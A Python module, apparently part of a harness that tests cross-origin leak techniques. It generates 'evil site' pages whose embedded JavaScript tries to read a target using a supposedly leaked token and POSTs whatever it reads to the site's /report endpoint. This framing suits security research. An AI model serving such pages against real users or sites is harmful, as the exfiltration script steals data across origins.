"""What the evil site serves: for each way a page that tries it on a target and reports what it could read."""

import json
from urllib.parse import urlencode

from ways import WAYS

# T is the target, TOKEN the right authorization token, as if it had leaked. A way calls `found` with what it
# could read, and with nothing where there was nothing to read.
SCRIPT = """
const T = %(target)s, TOKEN = %(token)s, SITE = %(site)s, WAY = %(way)s;
const found = read => {
  const report = JSON.stringify({read: String(read === undefined || read === null ? '' : read)});
  fetch(SITE + '/report?' + %(report)s, {method: 'POST', mode: 'no-cors', body: report});
};
const lost = () => found('');
const put = (tag, fields, at = document.body) => {
  const element = Object.assign(document.createElement(tag), fields);
  element.onload ??= lost;
  element.onerror ??= lost;
  at.append(element);
  return element;
};
const frame = fields => put('iframe', fields);
const text = promise => promise.then(answer => answer.text()).then(found, lost);
const inside = (script, more = {}) =>
  frame({srcdoc: '<script>' + script + '</scr' + 'ipt>', onload: () => {}, ...more});
const later = (milliseconds, act = lost) => setTimeout(act, milliseconds);
window.hear = found;
onmessage = event => found(event.data);
window.onload = async () => { try { %(act)s } catch (error) { lost(); } };
"""


def page(name, asked, token):
    """Content type, body and header fields of a way's page."""
    way = WAYS[name]
    target = asked["target"]
    site = asked["site"]
    script = SCRIPT % {
        "target": json.dumps(target),
        "token": json.dumps(token),
        "site": json.dumps(site),
        "way": json.dumps(name),
        "report": json.dumps(urlencode({"way": name, "at": asked["at"]})),
        "act": way.act,
    }
    if asked.get("part") == "worker":
        return "text/javascript", way.worker.replace("TARGET", json.dumps(target)), ()
    fields = [(name, value.replace("TARGET", target)) for name, value in way.fields]
    head = way.head.replace("TARGET", target)
    body = f"<!doctype html><meta charset=utf-8><title>{name}</title>{head}<body><script>{script}</script>"
    return "text/html", body, fields
